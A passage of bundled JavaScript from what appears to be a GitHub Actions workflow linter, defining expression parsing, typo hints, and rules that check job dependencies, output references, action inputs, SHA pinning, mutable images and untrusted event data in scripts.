 * Every `${{ }}` of a parsed file (and bare `if:` conditions), parsed with `@actions/expressions`
 * into property chains such as `steps.build.outputs.digest`, each segment with its position in
 * the file (internal to workflows-validation).
 */




/** Every context name, so that the parser builds a tree; unknown names are the parser rules' business. */
const CONTEXTS = ['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs'];
/** The expressions inside a token (and all under it), with their positions. */
function expressionSites(token, bareIf = false) {
    if (!token)
        return [];
    const sites = [];
    if (bareIf && (0,dist/* isString */.Kg)(token) && !token.value.includes('${{')) {
        // `if:` without ${{ }} is an expression too; skip the quote a quoted scalar starts with.
        const start = token.range?.start ?? { line: 1, column: 1 };
        const quoted = token.source !== undefined && /^['"]/.test(token.source);
        sites.push({ text: token.value, at: { line: start.line, column: start.column + (quoted ? 1 : 0) } });
        return sites;
    }
    for (const [, t] of template_token/* TemplateToken */.s.traverse(token, true)) {
        if (!(0,dist/* isBasicExpression */.hR)(t))
            continue;
        for (const o of t.originalExpressions ?? [t]) {
            const at = o.expressionRange?.start ?? (o.range ? { line: o.range.start.line, column: o.range.start.column + 4 } : { line: 1, column: 1 });
            sites.push({ text: o.expression, at });
        }
    }
    return sites;
}
/** The context chains of an expression; none when it does not parse (the syntax rules report that). */
function contextChains(site) {
    let tree;
    try {
        tree = new expressions_dist/* Parser */.iX(new expressions_dist/* Lexer */.JG(site.text).lex().tokens, CONTEXTS, []).parse();
    }
    catch {
        return [];
    }
    const chains = [];
    const toPos = (p) => p.line === 0 ? { line: site.at.line, column: site.at.column + p.column } : { line: site.at.line + p.line, column: p.column + 1 };
    const visit = (e) => {
        if (!e)
            return;
        if (e instanceof ast/* IndexAccess */.p_ || e instanceof ast/* ContextAccess */.QC) {
            const segments = [];
            let cur = e;
            while (cur instanceof ast/* IndexAccess */.p_) {
                const index = cur.index;
                if (index instanceof ast/* Literal */.uS) {
                    const v = index.token.value ?? index.token.lexeme;
                    segments.unshift({ name: String(v), at: toPos(index.token.range.start) });
                }
                else if (index.constructor.name === 'Star') {
                    segments.unshift({ name: '*', at: segments[0]?.at ?? site.at });
                }
                else {
                    // A computed index (`steps[matrix.id]`): the chain cannot be followed past it.
                    visit(index);
                    segments.length = 0;
                }
                cur = cur.expr;
            }
            if (cur instanceof ast/* ContextAccess */.QC) {
                segments.unshift({ name: cur.name.lexeme, at: toPos(cur.name.range.start) });
                chains.push({ expression: site.text, segments });
            }
            else
                visit(cur);
            return;
        }
        if (e instanceof ast/* FunctionCall */.R6)
            e.args.forEach(visit);
        else if (e instanceof ast/* Logical */.oD)
            e.args.forEach(visit);
        else if (e instanceof ast/* Binary */.yI) {
            visit(e.left);
            visit(e.right);
        }
        else if (e instanceof ast/* Unary */._c)
            visit(e.expr);
        else if (e instanceof ast/* Grouping */.aU)
            visit(e.group);
    };
    visit(tree);
    return chains;
}

;// CONCATENATED MODULE: ./.build/src/core/suggest.js
/**
 * "Did you mean" hints for names a user typed: rule inputs, gate metrics, command-line flags and
 * commands share one measure of a near miss.
 */
/** The candidate closest to `name` when it is a near miss (a typo), else undefined. */
function nearest(name, candidates) {
    let best;
    let bestDistance = Infinity;
    for (const c of candidates) {
        const d = distance(name.toLowerCase(), c.toLowerCase());
        if (d < bestDistance) {
            best = c;
            bestDistance = d;
        }
    }
    const limit = Math.max(1, Math.floor(name.length / 3));
    return best !== undefined && bestDistance <= Math.min(limit, 3) ? best : undefined;
}
/** ` (did you mean "x"?)` for a near miss of `name` among `candidates`, else an empty string. */
function didYouMean(name, candidates) {
    const best = nearest(name, candidates);
    return best !== undefined ? ` (did you mean "${best}"?)` : '';
}
/**
 * Optimal string alignment distance: Levenshtein plus adjacent transpositions as one edit, since
 * `buidl` for `build` is the commonest typo there is.
 */
function distance(a, b) {
    if (a === b)
        return 0;
    const rows = [Array.from({ length: b.length + 1 }, (_, j) => j)];
    for (let i = 1; i <= a.length; i++) {
        const cur = [i];
        for (let j = 1; j <= b.length; j++) {
            let d = Math.min(rows[i - 1][j] + 1, cur[j - 1] + 1, rows[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
            if (i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1])
                d = Math.min(d, rows[i - 2][j - 2] + 1);
            cur[j] = d;
        }
        rows.push(cur);
    }
    return rows[a.length][b.length];
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/model.js



// --- building ---------------------------------------------------------------------------------
function pos(token) {
    return token?.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** A scalar's text: literals as written, expressions as `${{ … }}`. */
function scalar(token) {
    if (!token)
        return undefined;
    if ((0,dist/* isLiteral */.c$)(token))
        return { value: token.toString(), at: pos(token) };
    if ((0,dist/* isBasicExpression */.hR)(token))
        return { value: token.toDisplayString(), at: pos(token) };
    return undefined;
}
function entries(token) {
    const map = new Map();
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return map;
    for (const pair of token) {
        const key = scalar(pair.key);
        if (key && !map.has(key.value))
            map.set(key.value, { key, value: pair.value });
    }
    return map;
}
function keyOf(token, name) {
    for (const pair of token) {
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === name)
            return { key: scalar(pair.key), value: pair.value };
    }
    return undefined;
}
function buildSteps(token) {
    const steps = [];
    if (!token || !(0,dist/* isSequence */.wZ)(token))
        return steps;
    let index = 0;
    for (const item of token) {
        if (!(0,dist/* isMapping */.pi)(item))
            continue;
        const e = entries(item);
        const expressions = [...expressionSites(item)];
        const ifEntry = e.get('if');
        // A bare `if:` string is an expression too, though the token tree holds it as a string.
        if (ifEntry && (0,dist/* isString */.Kg)(ifEntry.value))
            expressions.push(...expressionSites(ifEntry.value, true));
        steps.push({
            index: index++,
            at: pos(item),
            id: scalar(e.get('id')?.value),
            name: scalar(e.get('name')?.value),
            uses: scalar(e.get('uses')?.value),
            run: scalar(e.get('run')?.value),
            if: scalar(ifEntry?.value),
            with: entries(e.get('with')?.value),
            withKey: e.get('with')?.key,
            env: entries(e.get('env')?.value),
            expressions,
            token: item
        });
    }
    return steps;
}
function buildJob(id, token) {
    const e = entries(token);
    const needsToken = e.get('needs')?.value;
    const needs = [];
    if (needsToken && (0,dist/* isSequence */.wZ)(needsToken)) {
        for (const n of needsToken) {
            const s = scalar(n);
            if (s)
                needs.push(s);
        }
    }
    else {
        const s = scalar(needsToken);
        if (s)
            needs.push(s);
    }
    const secretsToken = e.get('secrets')?.value;
    const expressions = [];
    for (const [name, entry] of e) {
        if (name === 'steps' || name === 'outputs')
            continue;
        expressions.push(...expressionSites(entry.value, name === 'if'));
    }
    return {
        id,
        at: id.at,
        name: scalar(e.get('name')?.value),
        needs,
        outputs: entries(e.get('outputs')?.value),
        uses: scalar(e.get('uses')?.value),
        with: entries(e.get('with')?.value),
        withKey: e.get('with')?.key,
        secrets: secretsToken && (0,dist/* isString */.Kg)(secretsToken) && secretsToken.value === 'inherit' ? 'inherit' : entries(secretsToken),
        secretsKey: e.get('secrets')?.key,
        environment: e.get('environment')?.value,
        runsOn: e.get('runs-on')?.value,
        strategy: e.get('strategy')?.value,
        services: e.get('services')?.value,
        container: e.get('container')?.value,
        concurrency: e.get('concurrency')?.value,
        permissions: e.get('permissions')?.value,
        if: scalar(e.get('if')?.value),
        steps: buildSteps(e.get('steps')?.value),
        expressions,
        outputExpressions: expressionSites(e.get('outputs')?.value),
        token
    };
}
function byLowerId(jobs) {
    const map = new Map();
    for (const j of jobs) {
        const key = j.id.value.toLowerCase();
        if (!map.has(key))
            map.set(key, j);
    }
    return map;
}
/** The jobs `job` needs directly that the workflow has (unknown names left out). */
function neededJobs(workflow, job) {
    const out = [];
    for (const need of job.needs) {
        const next = workflow.jobsByLowerId.get(need.value.toLowerCase());
        if (next)
            out.push(next);
    }
    return out;
}
const namesOf = new WeakMap();
/** Jobs by their `name:` (the first of a name), built once per workflow. */
function jobsByName(workflow) {
    let map = namesOf.get(workflow);
    if (!map) {
        map = new Map();
        for (const j of workflow.jobs)
            if (j.name && !map.has(j.name.value))
                map.set(j.name.value, j);
        namesOf.set(workflow, map);
    }
    return map;
}
/**
 * Most "did you mean" searches among a workflow's job ids: each compares the name with every id,
 * so thousands of unknown names in a workflow of thousands of jobs would be quadratic. Past it the
 * findings keep their message without the hint (only the first 100 of a file are shown anyway).
 */
const JOB_SUGGESTIONS_PER_WORKFLOW = 100;
const suggestionsMade = new WeakMap();
/** ` (did you mean "x"?)` for a near miss of a job id, within the workflow's budget of searches. */
function suggestJob(workflow, name) {
    const made = suggestionsMade.get(workflow) ?? 0;
    if (made >= JOB_SUGGESTIONS_PER_WORKFLOW)
        return '';
    suggestionsMade.set(workflow, made + 1);
    return didYouMean(name, workflow.jobsById.keys());
}
/** The model of a workflow from the root token GitHub's parser read. */
function buildWorkflow(file, root) {
    const e = entries(root);
    const onToken = e.get('on')?.value;
    const on = new Map();
    if (onToken && (0,dist/* isMapping */.pi)(onToken))
        for (const [k, v] of entries(onToken))
            on.set(k, v);
    else if (onToken && (0,dist/* isSequence */.wZ)(onToken)) {
        for (const t of onToken) {
            const s = scalar(t);
            if (s)
                on.set(s.value, { key: s, value: t });
        }
    }
    else {
        const s = scalar(onToken);
        if (s)
            on.set(s.value, { key: s, value: onToken });
    }
    const call = on.get('workflow_call');
    const callEntries = call ? entries(call.value) : undefined;
    const jobs = [];
    const jobsToken = e.get('jobs')?.value;
    if (jobsToken && (0,dist/* isMapping */.pi)(jobsToken)) {
        for (const pair of jobsToken) {
            const id = scalar(pair.key);
            if (id && (0,dist/* isMapping */.pi)(pair.value))
                jobs.push(buildJob(id, pair.value));
        }
    }
    const expressions = [];
    for (const name of ['run-name', 'env', 'concurrency'])
        expressions.push(...expressionSites(e.get(name)?.value));
    return {
        kind: 'workflow',
        file,
        name: scalar(e.get('name')?.value),
        on,
        workflowCall: call
            ? {
                key: call.key,
                inputs: entries(callEntries?.get('inputs')?.value),
                secrets: entries(callEntries?.get('secrets')?.value),
                outputs: entries(callEntries?.get('outputs')?.value)
            }
            : undefined,
        permissions: keyOf(root, 'permissions'),
        concurrency: keyOf(root, 'concurrency'),
        env: entries(e.get('env')?.value),
        jobs,
        jobsById: new Map(jobs.map((j) => [j.id.value, j])),
        jobsByLowerId: byLowerId(jobs),
        expressions,
        root
    };
}
/** The model of action metadata from the root token GitHub's parser read. */
function buildAction(file, root) {
    const e = entries(root);
    const inputs = new Map();
    for (const [name, entry] of entries(e.get('inputs')?.value)) {
        const spec = entries(entry.value);
        const required = spec.get('required')?.value;
        inputs.set(name, {
            key: entry.key,
            required: required !== undefined && (0,dist/* isLiteral */.c$)(required) && String(required.toString()).toLowerCase() === 'true',
            hasDefault: spec.has('default')
        });
    }
    const runs = entries(e.get('runs')?.value);
    return {
        kind: 'action',
        file,
        name: scalar(e.get('name')?.value),
        inputs,
        outputs: entries(e.get('outputs')?.value),
        using: scalar(runs.get('using')?.value),
        steps: buildSteps(runs.get('steps')?.value),
        root
    };
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-unknown-job.js

const rule = {
    id: 'PG110',
    name: 'needs-unknown-job',
    level: 'error',
    description: '`needs:` names a job that the workflow does not define.',
    help: 'A job can only wait for jobs of the same workflow, by their ids (the keys under `jobs:`, not their `name:`). GitHub refuses the whole workflow when one `needs:` entry is unknown. Job ids are case-insensitive.',
    create(context) {
        return {
            jobPre(job, workflow) {
                for (const need of job.needs) {
                    if (workflow.jobsByLowerId.has(need.value.toLowerCase()))
                        continue;
                    const byName = jobsByName(workflow).get(need.value);
                    const hint = byName ? ` ("${need.value}" is the name of job "${byName.id.value}"; needs takes job ids)` : suggestJob(workflow, need.value);
                    context.report(workflow.file, need, `job "${job.id.value}" needs unknown job "${need.value}"${hint}`);
                }
            }
        };
    }
};
/* harmony default export */ const needs_unknown_job = (rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-cycle.js
/** Most jobs a cycle's message spells out (a cycle may run through thousands). */
const CYCLE_SHOWN = 10;
const needs_cycle_rule = {
    id: 'PG111',
    name: 'needs-cycle',
    level: 'error',
    description: 'Jobs whose `needs:` form a cycle, so that none of them can ever start.',
    help: 'GitHub runs a job once every job in its `needs:` has finished; when jobs need each other in a cycle, the workflow is refused. Break the cycle by removing one of the `needs:` entries named in the message.',
    create(context) {
        return {
            workflowPost(workflow) {
                // An iterative depth-first search (a chain of thousands of jobs would overflow the call
                // stack), each job's place on the stack kept, so that a cycle costs no search: linear.
                const done = new Set();
                const onStack = new Map();
                const stack = [];
                const reported = new Set();
                for (const root of workflow.jobs) {
                    if (done.has(root))
                        continue;
                    onStack.set(root, 0);
                    stack.push({ job: root, next: 0 });
                    while (stack.length) {
                        const frame = stack[stack.length - 1];
                        const needs = frame.job.needs;
                        if (frame.next >= needs.length) {
                            stack.pop();
                            onStack.delete(frame.job);
                            done.add(frame.job);
                            continue;
                        }
                        const need = needs[frame.next++];
                        const next = workflow.jobsByLowerId.get(need.value.toLowerCase());
                        if (!next || done.has(next))
                            continue;
                        const at = onStack.get(next);
                        if (at === undefined) {
                            onStack.set(next, stack.length);
                            stack.push({ job: next, next: 0 });
                            continue;
                        }
                        // A back edge closes the cycle stack[at] → … → this job → next.
                        const key = `${frame.job.id.value}\0${next.id.value}`;
                        if (reported.has(key))
                            continue;
                        reported.add(key);
                        const length = stack.length - at;
                        const shown = stack.slice(at, at + Math.min(length, CYCLE_SHOWN)).map((f) => f.job.id.value);
                        const path = length <= CYCLE_SHOWN ? [...shown, next.id.value].join(' -> ') : `${shown.join(' -> ')} -> … -> ${frame.job.id.value} -> ${next.id.value} (${length} jobs)`;
                        context.report(workflow.file, need, `jobs form a dependency cycle: ${path}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const needs_cycle = (needs_cycle_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rule.js
/** Quotes a list of names for a message: `"a", "b"`, or `none`. */
function nameList(names, most = NAME_LIST_MOST) {
    const list = [];
    let count = 0;
    for (const n of names)
        if (count++ < most)
            list.push(`"${n}"`);
    if (count > most)
        list.push(`… ${count - most} more`);
    return list.length ? list.join(', ') : 'none';
}
/** Most names a message lists (a job may need thousands; a finding stays one readable line). */
const NAME_LIST_MOST = 10;

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/step-outputs-reference.js
/** PG112 step-outputs-reference: `steps.X` where no step `X` runs before, in that job. */



const step_outputs_reference_rule = {
    id: 'PG112',
    name: 'step-outputs-reference',
    level: 'error',
    description: '`steps.X.outputs.Y` (or `steps.X.outcome`) where no step with id `X` runs before it in the same job.',
    help: 'The `steps` context holds only the steps of the current job (or composite action) that have already run, by their `id:`. A reference to a step that does not exist, or that runs later, evaluates to an empty string: the workflow runs on with a silently empty value. Give the step an `id:` and refer to it only after it.',
    create(context) {
        /** `sites` may name the steps of `all` before index `upTo` (all of them for outputs). */
        const check = (file, sites, all, upTo, owner) => {
            const known = new Set(all.slice(0, upTo).flatMap((s) => (s.id ? [s.id.value] : [])));
            for (const site of sites) {
                for (const chain of contextChains(site)) {
                    const [ctx, step] = chain.segments;
                    if (ctx.name !== 'steps' || !step || step.name === '*' || known.has(step.name))
                        continue;
                    const at = all.findIndex((s) => s.id?.value === step.name);
                    let message;
                    if (at === upTo)
                        message = `step "${step.name}" refers to its own outputs, which do not exist until it has run`;
                    else if (at > upTo)
                        message = `step "${step.name}" runs after this step in ${owner}: its outputs are empty here`;
                    else {
                        const ids = all.flatMap((s) => (s.id ? [s.id.value] : []));
                        message = `no step with id "${step.name}" before this point in ${owner} (step ids: ${nameList(known)})${didYouMean(step.name, ids)}`;
                    }
                    context.report(file, step, message);
                }
            }
        };
        return {
            jobPre(job, workflow) {
                const owner = `job "${job.id.value}"`;
                job.steps.forEach((step, i) => check(workflow.file, step.expressions, job.steps, i, owner));
                check(workflow.file, job.outputExpressions, job.steps, job.steps.length, owner);
            },
            actionPre(action) {
                action.steps.forEach((step, i) => check(action.file, step.expressions, action.steps, i, 'the composite action'));
                const outputs = [...action.outputs.values()].flatMap((o) => expressionSites(o.value));
                check(action.file, outputs, action.steps, action.steps.length, 'the composite action');
            }
        };
    }
};
/* harmony default export */ const step_outputs_reference = (step_outputs_reference_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/needs-outputs-reference.js
/** PG113 needs-outputs-reference: `needs.X.outputs.Y` where X is not needed or has no output Y. */




const needs_outputs_reference_rule = {
    id: 'PG113',
    name: 'needs-outputs-reference',
    level: 'error',
    description: '`needs.X.…` where job `X` is not in this job\'s `needs:`, or `needs.X.outputs.Y` where `X` declares no output `Y`.',
    help: "The `needs` context holds only the jobs listed in the job's own `needs:` (not their dependencies), and of each only the outputs it declares under `outputs:` (for a reusable workflow, its `on.workflow_call.outputs`). Anything else evaluates to an empty string, silently: a deploy then runs with an empty version or report. Add the job to `needs:`, or declare the output.",
    create(context) {
        const outputsOf = (target) => {
            if (!target.uses)
                return [...target.outputs.keys()];
            const called = context.project.local(target.uses.value);
            // A remote reusable workflow's outputs cannot be known offline.
            return called?.kind === 'workflow' && called.workflowCall ? [...called.workflowCall.outputs.keys()] : undefined;
        };
        // Lower-case output names of each job referenced, built once: a job may be referenced thousands of times.
        const declaredOf = new Map();
        const declared = (target, outputs) => {
            let set = declaredOf.get(target);
            if (!set)
                declaredOf.set(target, (set = new Set(outputs.map((o) => o.toLowerCase()))));
            return set;
        };
        return {
            jobPre(job, workflow) {
                const needed = new Map(job.needs.map((n) => [n.value.toLowerCase(), n.value]));
                const sites = [...job.expressions, ...job.outputExpressions, ...job.steps.flatMap((s) => s.expressions)];
                for (const site of sites) {
                    for (const chain of contextChains(site)) {
                        const [ctx, target, section, output] = chain.segments;
                        if (ctx.name !== 'needs' || !target || target.name === '*')
                            continue;
                        if (!needed.has(target.name.toLowerCase())) {
                            const exists = workflow.jobsByLowerId.has(target.name.toLowerCase());
                            const why = exists ? `job "${target.name}" is not in the needs of job "${job.id.value}"` : `no job "${target.name}" in this workflow`;
                            context.report(workflow.file, target, `${why} (needs: ${nameList(needed.values())})${exists ? '' : suggestJob(workflow, target.name)}`);
                            continue;
                        }
                        if (section?.name !== 'outputs' || !output || output.name === '*')
                            continue;
                        const targetJob = workflow.jobsByLowerId.get(target.name.toLowerCase());
                        if (!targetJob)
                            continue;
                        const outputs = outputsOf(targetJob);
                        if (!outputs || declared(targetJob, outputs).has(output.name.toLowerCase()))
                            continue;
                        context.report(workflow.file, output, `job "${targetJob.id.value}" declares no output "${output.name}" (outputs: ${nameList(outputs)})${didYouMean(output.name, outputs)}`);
                    }
                }
            }
        };
    }
};
/* harmony default export */ const needs_outputs_reference = (needs_outputs_reference_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/local-action-inputs.js
/** PG114 local-action-inputs: `with:` of a local action against the inputs its action.yml declares. */


const local_action_inputs_rule = {
    id: 'PG114',
    name: 'local-action-inputs',
    level: 'error',
    description: "`with:` keys that a local action's `action.yml` does not declare, and required inputs (without a default) left out.",
    help: 'For `uses: ./path/to/action`, the inputs are read from `path/to/action/action.yml` in the workspace. An undeclared key is ignored by the runner (with only a warning in the log), so a misspelt input silently takes its default; a required input without a default that is not given is usually a bug. Input names are case-insensitive.',
    create(context) {
        return {
            step(step, _owner, file) {
                const uses = step.uses?.value;
                if (!uses?.startsWith('./'))
                    return;
                const action = context.project.local(uses);
                if (action?.kind !== 'action')
                    return;
                const declared = new Map([...action.inputs.keys()].map((k) => [k.toLowerCase(), k]));
                for (const [key, entry] of step.with) {
                    if (declared.has(key.toLowerCase()))
                        continue;
                    context.report(file.file, entry.key, `input "${key}" is not declared by ${action.file.path} (inputs: ${nameList(declared.values())})${didYouMean(key, declared.values())}`);
                }
                const given = new Set([...step.with.keys()].map((k) => k.toLowerCase()));
                const missing = [...action.inputs].filter(([name, input]) => input.required && !input.hasDefault && !given.has(name.toLowerCase())).map(([name]) => name);
                if (missing.length) {
                    context.report(file.file, step.withKey ?? step.uses, `required input${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${action.file.path} not given`);
                }
            }
        };
    }
};
/* harmony default export */ const local_action_inputs = (local_action_inputs_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/reusable-workflow-call.js
/** PG115 reusable-workflow-call: inputs and secrets passed to a local reusable workflow. */


const reusable_workflow_call_rule = {
    id: 'PG115',
    name: 'reusable-workflow-call',
    level: 'error',
    description: 'A call of a local reusable workflow with inputs or secrets its `on.workflow_call` does not declare, required ones missing, or no `workflow_call` trigger at all.',
    help: 'For `uses: ./.github/workflows/x.yml`, GitHub checks `with:` and `secrets:` against the `on.workflow_call` of the called workflow when the run starts, and refuses the run when an input or secret is unknown or a required one (without a default) is missing. This finds it before the push. `secrets: inherit` passes every secret.',
    create(context) {
        const compare = (file, what, given, declared, called, anchor) => {
            const names = new Map([...declared.keys()].map((k) => [k.toLowerCase(), k]));
            for (const [key, entry] of given) {
                if (names.has(key.toLowerCase()))
                    continue;
                context.report(file, entry.key, `${what} "${key}" is not declared by on.workflow_call of ${called} (${what}s: ${nameList(names.values())})${didYouMean(key, names.values())}`);
            }
            const passed = new Set([...given.keys()].map((k) => k.toLowerCase()));
            const missing = [...declared]
                .filter(([name, entry]) => {
                if (passed.has(name.toLowerCase()))
                    return false;
                const spec = entry.value;
                const required = spec.find?.('required')?.toString().toLowerCase() === 'true';
                return required && !spec.find?.('default');
            })
                .map(([name]) => name);
            if (missing.length)
                context.report(file, anchor, `required ${what}${missing.length > 1 ? 's' : ''} ${nameList(missing)} of ${called} not given`);
        };
        return {
            jobPre(job, workflow) {
                const uses = job.uses;
                if (!uses?.value.startsWith('./'))
                    return;
                const called = context.project.local(uses.value);
                if (called?.kind !== 'workflow')
                    return;
                const call = called.workflowCall;
                if (!call) {
                    context.report(workflow.file, uses, `${called.file.path} has no on.workflow_call trigger: it cannot be called as a reusable workflow`);
                    return;
                }
                compare(workflow.file, 'input', job.with, call.inputs, called.file.path, job.withKey ?? uses);
                if (job.secrets !== 'inherit')
                    compare(workflow.file, 'secret', job.secrets, call.secrets, called.file.path, job.secretsKey ?? uses);
            }
        };
    }
};
/* harmony default export */ const reusable_workflow_call = (reusable_workflow_call_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/syntax/index.js











const family = {
    name: 'syntax',
    title: 'Syntax and types',
    description: 'What GitHub would refuse or misread: YAML and schema, expressions and their contexts, job graph, inputs of local actions and reusable workflows.',
    rules: [
        unreadable_file,
        workflow_syntax,
        expression_syntax,
        unknown_context,
        unknown_function,
        needs_unknown_job,
        needs_cycle,
        step_outputs_reference,
        needs_outputs_reference,
        local_action_inputs,
        reusable_workflow_call
    ]
};
/* harmony default export */ const syntax = (family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/scripts/index.js
const scripts_family = {
    name: 'scripts',
    title: 'Scripts',
    description: 'The shell scripts of `run:` steps.',
    rules: []
};
/* harmony default export */ const scripts = (scripts_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/unpinned-action.js
const SHA = /^[0-9a-f]{40}$/;
const DIGEST = /@sha256:[0-9a-f]{64}$/;
/** Whether `allow.owners` or `allow.actions` (`owner/repo`, `owner/*`, `owner/repo/path`) trusts this action. */
function allowed(action, settings) {
    const lower = action.toLowerCase();
    const owner = lower.split('/')[0];
    if (settings.allowOwners.some((o) => o.toLowerCase() === owner))
        return true;
    return settings.allowActions.some((pattern) => {
        const p = pattern.toLowerCase().replace(/@.*$/, '');
        const re = new RegExp(`^${p.replace(/[.+?^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[^/]*')}(?:/.*)?$`);
        return re.test(lower);
    });
}
const unpinned_action_rule = {
    id: 'PG201',
    name: 'unpinned-action',
    level: 'warning',
    description: 'A `uses:` of another repository not pinned to a full 40-character commit SHA, or a `docker://` image not pinned by `@sha256:` digest.',
    help: 'A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action\'s repository, and the next run executes the new code with your token and secrets (as in the tj-actions/changed-files compromise). Pin `owner/repo@<40-hex sha> # v4.2.2` and let Dependabot or Renovate update the SHA; pin `docker://image@sha256:<digest>`. Local actions (`./…`) are part of the repository and exempt. Every owner is third-party here, `actions/*` and `github/*` included; trust owners or actions in `.github/phase-gates.yml` with `allow: { owners: [acme], actions: [acme/deploy] }`.',
    create(context) {
        const check = (file, uses) => {
            const value = uses?.value.trim();
            if (!uses || !value || value.startsWith('./') || value.includes('${{'))
                return;
            if (value.startsWith('docker://')) {
                const image = value.slice('docker://'.length);
                if (DIGEST.test(image) || allowed(image, context.settings))
                    return;
                context.report(file, uses, `image "${value}" is not pinned by digest; use docker://${image.replace(/@.*$/, '').replace(/:[^/:]*$/, '')}@sha256:<digest>`);
                return;
            }
            const at = value.lastIndexOf('@');
            const action = at < 0 ? value : value.slice(0, at);
            const ref = at < 0 ? '' : value.slice(at + 1);
            if (SHA.test(ref) || allowed(action, context.settings))
                return;
            const pinned = ref ? `${action}@<40-hex commit sha> # ${ref}` : `${action}@<40-hex commit sha>`;
            context.report(file, uses, `"${value}" is not pinned to a full commit SHA${ref ? ` ("${ref}" can be moved)` : ''}; use ${pinned}`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, job.uses);
            },
            step(step, _owner, file) {
                check(file.file, step.uses);
            }
        };
    }
};
/* harmony default export */ const unpinned_action = (unpinned_action_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/mutable-image.js
/** PG205 mutable-image: container, service and `docker://` images with `:latest` or no tag. */

/** The image of `container:` (a string, or a mapping with `image:`) or of a service. */
function imageOf(token) {
    if (!token)
        return undefined;
    if ((0,dist/* isString */.Kg)(token))
        return token;
    if (!(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === 'image')
            return pair.value;
    return undefined;
}
/** What is mutable about an image reference: `:latest`, no tag, or nothing (a version tag or a digest). */
function mutability(image) {
    if (!image || image.includes('${{') || image.includes('@'))
        return undefined;
    const last = image.split('/').pop() ?? '';
    const colon = last.indexOf(':');
    if (colon < 0)
        return 'untagged';
    return last.slice(colon + 1).toLowerCase() === 'latest' ? 'latest' : undefined;
}
const mutable_image_rule = {
    id: 'PG205',
    name: 'mutable-image',
    level: 'warning',
    description: 'A `container:`, `services:` or `docker://` image with the `:latest` tag or no tag at all.',
    help: 'An image without a tag means `:latest`, which points to whatever was pushed last: the job changes under you between two runs, and whoever can push the image controls what runs. Use a version tag (`postgres:16.4`) or, better, a digest (`postgres@sha256:…`, which PG201 asks for `docker://` steps).',
    create(context) {
        const check = (file, token, what) => {
            if (!token || !(0,dist/* isString */.Kg)(token))
                return;
            const image = token.value.trim().replace(/^docker:\/\//, '');
            const kind = mutability(image);
            if (!kind)
                return;
            const node = { at: token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 } };
            const why = kind === 'latest' ? 'uses the mutable tag :latest' : 'has no tag, so it means :latest';
            context.report(file, node, `${what} image "${image}" ${why}; pin a version tag or a digest (@sha256:…)`);
        };
        return {
            jobPre(job, workflow) {
                check(workflow.file, imageOf(job.container), `container`);
                if (job.services && (0,dist/* isMapping */.pi)(job.services)) {
                    for (const pair of job.services) {
                        const name = (0,dist/* isString */.Kg)(pair.key) ? pair.key.value : '';
                        check(workflow.file, imageOf(pair.value), `service "${name}"`);
                    }
                }
            },
            step(step, _owner, file) {
                const uses = step.uses?.value ?? '';
                if (!uses.startsWith('docker://'))
                    return;
                const token = step.token.find('uses');
                check(file.file, token, 'step');
            }
        };
    }
};
/* harmony default export */ const mutable_image = (mutable_image_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/index.js


const supply_chain_family = {
    name: 'supply-chain',
    title: 'Supply chain',
    description: 'What a workflow runs that others wrote: actions and images, their pins and versions.',
    rules: [
        unpinned_action,
        mutable_image
    ]
};
/* harmony default export */ const supply_chain = (supply_chain_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/untrusted-input-in-script.js
/** PG200 untrusted-input-in-script: attacker-controlled event data expanded in `run:` or github-script's `script:`. */


/**
 * The untrusted inputs of actionlint's expression check and GitHub's security hardening guide:
 * text any user (or fork) controls. `*` is any element of an array.
 */
const UNTRUSTED = [
    'github.event.issue.title',
    'github.event.issue.body',
    'github.event.pull_request.title',
    'github.event.pull_request.body',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.head.label',
    'github.event.pull_request.head.repo.default_branch',
    'github.event.discussion.title',
    'github.event.discussion.body',
    'github.event.comment.body',
    'github.event.review.body',
    'github.event.review_comment.body',
    'github.event.pages.*.page_name',
    'github.event.commits.*.message',
    'github.event.commits.*.author.email',
    'github.event.commits.*.author.name',
    'github.event.head_commit.message',
    'github.event.head_commit.author.email',
    'github.event.head_commit.author.name',
    'github.event.workflow_run.head_branch',
    'github.event.workflow_run.head_commit.message',
    'github.event.workflow_run.head_commit.author.email',
    'github.event.workflow_run.head_commit.author.name',
    'github.event.workflow_run.head_repository.description',
    'github.head_ref'
].map((p) => p.split('.'));
/** The untrusted path a chain reads (as written in the list), if any. */
function untrusted(segments) {
    const names = segments.map((s) => s.name.toLowerCase());
    for (const pattern of UNTRUSTED) {
        if (names.length < pattern.length)
            continue;
        if (pattern.every((p, i) => (p === '*' ? true : names[i] === p)))
            return pattern.join('.');
    }
    return undefined;
}
/** The value of `key` in a step's mapping. */
function untrusted_input_in_script_valueOf(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
